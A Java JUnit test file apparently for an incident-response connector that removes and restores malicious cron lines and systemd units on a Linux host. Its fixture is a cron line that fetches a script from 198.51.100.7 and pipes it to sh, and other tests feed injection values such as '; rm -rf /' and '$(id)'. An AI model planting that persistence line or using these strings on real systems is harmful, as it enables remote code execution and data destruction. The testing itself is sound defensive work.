package dev.quaestor.connector.linux;

import static org.assertj.core.api.Assertions.assertThat;

import dev.quaestor.connector.ConnectorException;
import dev.quaestor.connector.capability.Acquaintance;
import dev.quaestor.connector.capability.ItemRemoval;
import dev.quaestor.connector.capability.ItemRemoval.Look;
import dev.quaestor.connector.capability.Mandate;
import dev.quaestor.connector.capability.Progress;
import dev.quaestor.entity.FileArtifact;
import dev.quaestor.entity.OnDevice;
import dev.quaestor.entity.ScheduledTask;
import dev.quaestor.entity.SystemService;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What starts by itself is taken off a real host and put back, whatever dies meanwhile. */
@OnRealHost
class ItemsAsRootTest {
  private static final String CRONTAB = "/var/spool/cron/crontabs/eve";
  private static final String LINE = "*/5 * * * * curl -s \"http://198.51.100.7/$(id -u)\" | sh -";
  private static final String UNIT = "/etc/systemd/system/lair.service";

  private static RealHost host;
  private ItemRemoval items;

  @BeforeAll
  static void up(RealHost made) {
    host = made;
  }

  @BeforeEach
  void connect() throws Exception {
    items = RealHost.port(host.connect(), ItemRemoval.class);
    host.sh(
        """
        mkdir -p /var/spool/cron/crontabs /opt/lair
        cat >%1$s <<'X'
        # by eve
        @daily true
        %2$s
        %2$s x
        @hourly false
        X
        chown 65534:1 %1$s; chmod 600 %1$s; touch -d '2026-10-01 10:00:00' %1$s
        printf '[Service]\\nExecStart=/opt/lair/tool\\n' >%3$s
        mkdir -p /etc/systemd/system/multi-user.target.wants
        ln -s ../lair.service /etc/systemd/system/multi-user.target.wants/lair.service
        """
            .formatted(CRONTAB, LINE, UNIT));
  }

  @AfterEach
  void asItWas() throws Exception {
    host.sh(
        """
        cd /usr/sbin; /usr/bin/rm -f mv cp rm rmdir link sync mktemp ln grep
        test ! -e /run/systemctl || /usr/bin/cp -p /run/systemctl /usr/bin/systemctl
        /usr/bin/rm -rf /var/lib/quaestor /opt/lair /etc/systemd/system/lair* /run/systemd/system /run/lair \
          /etc/systemd/system/*/lair.service /run/systemd/transient /var/spool/cron/crontabs/eve
        """);
  }

  private static ScheduledTask line() {
    return new ScheduledTask("web-01", CRONTAB + ": " + LINE, null);
  }

  private static SystemService service() {
    return new SystemService("web-01", "lair", null);
  }

  private static Mandate mandate(String action) {
    return new Mandate(action, "why");
  }

  private String image(OnDevice item) {
    var look = items.look(item, mandate("look"));
    assertThat(look).isInstanceOf(Look.There.class);
    return ((Look.There) look).image();
  }

  private static void isRefused(Progress progress, String code) {
    assertThat(progress)
        .isInstanceOfSatisfying(
            Progress.Failed.class, failed -> assertThat(failed.code()).isEqualTo(code));
  }

  private static String all(String path) throws Exception {
    return host.sh(
            "stat -c '%%a %%u %%g %%y %%F' %1$s; cat %1$s; ls -l /etc/systemd/system/multi-user.target.wants"
                .formatted(path))
        .said();
  }

  @Test
  void onlyThatLineGoesAndTheFileComesBackAsItWas() throws Exception {
    var before = all(CRONTAB);
    var image = image(line());

    assertThat(items.remove(line(), image, mandate("act-1"))).isInstanceOf(Progress.Done.class);
    assertThat(host.sh("cat " + CRONTAB).said())
        .isEqualTo("# by eve\n@daily true\n%s x\n@hourly false\n".formatted(LINE));
    assertThat(host.sh("stat -c '%a %u %g' " + CRONTAB).said()).isEqualTo("600 65534 1\n");
    assertThat(items.restore(line(), image, mandate("undo-1"))).isInstanceOf(Progress.Done.class);
    assertThat(all(CRONTAB)).isEqualTo(before);
    assertThat(host.sh("ls -A /var/lib/quaestor/crontabs /var/spool/cron/crontabs").said())
        .doesNotContain(".quaestor", ".fresh");
  }

  @Test
  void whatTheUserHasChangedSinceStays() throws Exception {
    var image = image(line());
    items.remove(line(), image, mandate("act-1"));
    host.sh("printf '@reboot mine' >>%s".formatted(CRONTAB));

    var undone = items.restore(line(), image, mandate("undo-1"));

    assertThat(undone).isInstanceOf(Progress.Done.class);
    assertThat(undone.sentence()).contains("changed since");
    assertThat(host.sh("cat " + CRONTAB).said())
        .isEqualTo(
            "# by eve\n@daily true\n%1$s\n%1$s x\n@hourly false\n@reboot mine".formatted(LINE));
  }

  @Test
  void aLineThatIsThereTwiceComesBackTwiceThoughTheFileWasChangedSince() throws Exception {
    host.sh("printf '%s\\n' '%s' '# end' >>%s".formatted("%s", LINE, CRONTAB));
    var before = host.sh("cat " + CRONTAB).said();
    var image = image(line());
    items.remove(line(), image, mandate("act-1"));
    host.sh("printf '@reboot mine\\n' >>%s".formatted(CRONTAB));

    assertThat(items.restore(line(), image, mandate("undo-1"))).isInstanceOf(Progress.Done.class);
    assertThat(host.sh("cat " + CRONTAB).said()).isEqualTo(before + "@reboot mine\n");
  }

  @Test
  void aFileOfCronThatIsGoneIsNotMadeAnewAndALineThatIsThereIsLeft() throws Exception {
    var image = image(line());
    items.remove(line(), image, mandate("act-1"));
    host.sh("mv %s /run/eve".formatted(CRONTAB));
    isRefused(items.restore(line(), image, mandate("undo-1")), "ITEM_GONE");
    host.sh("mkdir " + CRONTAB);
    isRefused(items.restore(line(), image, mandate("undo-2")), "OCCUPIED");
    host.sh("rmdir %1$s; mv /run/eve %1$s; rm -r /var/lib/quaestor/crontabs".formatted(CRONTAB));
    isRefused(items.restore(line(), image, mandate("undo-3")), "COPY_GONE");
  }

  /** The shell dies after each command that changes anything, once. */
  @ParameterizedTest
  @ValueSource(strings = {"mv", "cp", "rm", "rmdir", "link", "sync", "mktemp", "ln", "grep"})
  void whateverDiesTheRepeatEndsIt(String command) throws Exception {
    for (var item : new OnDevice[] {line(), service()}) {
      var path = item instanceof SystemService ? UNIT : CRONTAB;
      var before = all(path);
      var image = image(item);
      dieAfter(command);
      diesOrIsDone(() -> items.remove(item, image, mandate("act-1" + path.length())));
      assertThat(items.remove(item, image, mandate("act-1" + path.length())))
          .isInstanceOf(Progress.Done.class);
      assertThat(items.look(item, mandate("look"))).isInstanceOf(Look.Gone.class);

      dieAfter(command);
      diesOrIsDone(() -> items.restore(item, image, mandate("undo-1" + path.length())));
      assertThat(items.restore(item, image, mandate("undo-1" + path.length())))
          .isInstanceOf(Progress.Done.class);
      assertThat(all(path)).isEqualTo(before);
      assertThat(host.sh("ls -A /var/spool/cron/crontabs /etc/systemd/system").said())
          .doesNotContain(".quaestor");
      host.sh("cd /usr/sbin; /usr/bin/rm -f mv cp rm rmdir link sync mktemp ln grep");
    }
  }

  private static void diesOrIsDone(Runnable act) {
    try {
      act.run();
    } catch (ConnectorException died) {
      assertThat(died.mayHaveActed()).isTrue();
    }
  }

  private static void dieAfter(String command) throws Exception {
    var ended =
        host.sh(
            """
            cat >/usr/sbin/%1$s <<'X'
            #!/bin/sh
            /usr/bin/rm -f /usr/sbin/%1$s
            /usr/bin/%1$s "$@"
            kill -9 $(/usr/bin/cut -d ' ' -f 4 /proc/$PPID/stat) $PPID
            X
            chmod 755 /usr/sbin/%1$s
            """
                .formatted(command));
    assertThat(ended.exit()).as(ended.said()).isZero();
  }

  static Stream<Arguments> noTasks() {
    return Stream.of(
            "/etc/cron.d/../passwd",
            "/etc/passwd",
            "/etc/cron.d/",
            "/etc/cron.d/a/b",
            "/var/spool/cron/crontabs/..",
            "/etc/crontab: ",
            "/etc/crontab: a\nb",
            "/etc/passwd: root:x:0:0:root:/root:/bin/bash",
            "\\Microsoft\\Windows\\Task",
            "backup",
            "/etc/cron.d/x\u0000y",
            "/etc/crontab: " + "x".repeat(5_000))
        .map(Arguments::of);
  }

  @ParameterizedTest
  @MethodSource("noTasks")
  void whatIsNoTaskOfLinuxIsRefusedBefore(String name) {
    var task = new ScheduledTask("web-01", name, null);
    assertThat(items.obstacle(task, new Acquaintance.NotAsked<>(""))).isPresent();
    assertThat(items.look(task, mandate("look"))).isInstanceOf(Look.Refused.class);
  }

  /** What lies there by now, or is asked for, and what becomes of it. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          lair.service                | printf x >>/etc/systemd/system/lair.service | CHANGED
          lair.service                | rm /etc/systemd/system/lair.service; mkdir /etc/systemd/system/lair.service | CHANGED
          ssh                         | true | PROTECTED_UNIT
          ssh.socket                  | true | PROTECTED_UNIT
          systemd-networkd            | true | PROTECTED_UNIT
          quaestor-isolation.service  | true | PROTECTED_UNIT
          multi-user.target           | true | NOT_A_NAME
          ../../passwd.service        | true | NOT_A_NAME
          -.mount                     | true | NOT_A_NAME
          """)
  void whatIsNotThatUnitIsLeft(String name, String script, String code) throws Exception {
    var image = image(service());
    host.sh(script);
    var item = new SystemService("web-01", name, null);

    isRefused(items.remove(item, image, mandate("act-1")), code);
    assertThat(host.sh("ls -l /etc/systemd/system | grep /dev/null").said()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"file x", "unit ACTIVE NONE -; rm -rf /", "", "line", "unit ACTIVE FILE $(id)"})
  void anImageThatIsNoneIsRefused(String image) {
    isRefused(items.remove(service(), image, mandate("act-1")), "NOT_AN_IMAGE");
    isRefused(items.restore(service(), image, mandate("act-2")), "NOT_AN_IMAGE");
  }

  @Test
  void whatNoSystemdRunsIsSaidAndNothingIsPretended() throws Exception {
    assertThat(items.look(new SystemService("web-01", "apache", null), mandate("look")))
        .isInstanceOfSatisfying(
            Look.Refused.class, refused -> assertThat(refused.code()).isEqualTo("NO_SYSTEMD"));
    var done = items.remove(service(), image(service()), mandate("act-1"));
    assertThat(done.sentence()).contains("systemd does not run on the host");
  }

  @Test
  void aUnitMadeAtRunTimeOnlyIsRefusedBecauseItCouldNotComeBack() throws Exception {
    host.sh("mkdir -p /run/systemd/transient; echo [Service] >/run/systemd/transient/once.service");
    assertThat(items.look(new SystemService("web-01", "once", null), mandate("look")))
        .isInstanceOfSatisfying(
            Look.Refused.class, refused -> assertThat(refused.code()).isEqualTo("TRANSIENT_UNIT"));
  }

  @Test
  void aLinkedUnitAndAUnitOfAPackageComeBackAsTheyWere() throws Exception {
    host.sh(
        "mv %1$s /opt/lair/; ln -s /opt/lair/lair.service %1$s; printf '[Service]\\n' >/usr/lib/systemd/system/lair2.service"
            .formatted(UNIT));
    for (var name : new String[] {"lair", "lair2"}) {
      var item = new SystemService("web-01", name, null);
      var image = image(item);
      var before = host.sh("ls -l /etc/systemd/system/%s.service".formatted(name)).said();
      assertThat(items.remove(item, image, mandate("act-" + name)))
          .isInstanceOf(Progress.Done.class);
      assertThat(host.sh("readlink /etc/systemd/system/%s.service".formatted(name)).said().strip())
          .isEqualTo("/dev/null");
      assertThat(items.restore(item, image, mandate("undo-" + name)))
          .isInstanceOf(Progress.Done.class);
      assertThat(host.sh("ls -l /etc/systemd/system/%s.service".formatted(name)).said())
          .isEqualTo(before);
    }
    host.sh("rm /usr/lib/systemd/system/lair2.service");
  }

  /**
   * Systemd itself cannot run in our hosts: a stand-in keeps what systemctl is told, as its manual
   * says.
   */
  private static void runsSystemd() throws Exception {
    host.sh(
        """
        test -e /run/systemctl || cp -p /usr/bin/systemctl /run/systemctl
        mkdir -p /run/systemd/system /run/lair; echo active >/run/lair/lair.service
        cat >/usr/bin/systemctl.new <<'X'
        #!/bin/sh
        verb=$1; shift; [ "${1:-}" != -- ] || shift
        echo "$verb ${1:-}" >>/run/lair/told
        case $verb in
          is-active) cat /run/lair/$1 2>/dev/null || echo inactive ;;
          is-enabled) echo static ;;
          stop) [ -e /run/lair/stubborn ] || echo inactive >/run/lair/$1 ;;
          start) [ "$(readlink /etc/systemd/system/$1)" != /dev/null ] && echo active >/run/lair/$1 ;;
        esac
        X
        chmod 755 /usr/bin/systemctl.new; mv /usr/bin/systemctl.new /usr/bin/systemctl
        """);
  }

  @Test
  void aRunningServiceIsStoppedAndRunsAgainAfterwards() throws Exception {
    runsSystemd();
    var image = image(service());

    assertThat(items.remove(service(), image, mandate("act-1"))).isInstanceOf(Progress.Done.class);
    assertThat(host.sh("cat /run/lair/lair.service").said()).isEqualTo("inactive\n");
    assertThat(items.look(service(), mandate("look"))).isInstanceOf(Look.Gone.class);
    assertThat(items.restore(service(), image, mandate("undo-1")))
        .isInstanceOf(Progress.Done.class);
    assertThat(host.sh("cat /run/lair/lair.service").said()).isEqualTo("active\n");
    assertThat(host.sh("cat /run/lair/told").said())
        .contains("stop lair.service", "daemon-reload", "start lair.service");
  }

  @Test
  void aServiceThatDoesNotStopIsNoSuccess() throws Exception {
    runsSystemd();
    var image = image(service());
    host.sh("touch /run/lair/stubborn");

    isRefused(items.remove(service(), image, mandate("act-1")), "STILL_RUNNING");
    host.sh("rm /run/lair/stubborn");
    assertThat(items.remove(service(), image, mandate("act-1"))).isInstanceOf(Progress.Done.class);
  }

  @Test
  void whatThisIsDoneByIsNotDeleted() throws Exception {
    for (var path : new String[] {"/usr/bin/base64", "/usr/bin/dash"}) {
      var slash = path.lastIndexOf('/');
      var file =
          new FileArtifact(
              "web-01",
              path.substring(slash + 1),
              path.substring(0, slash),
              null,
              null,
              null,
              null,
              null);
      assertThat(items.look(file, mandate("look")))
          .isInstanceOfSatisfying(
              Look.Refused.class, refused -> assertThat(refused.code()).isEqualTo("SYSTEM_FILE"));
    }
  }
}
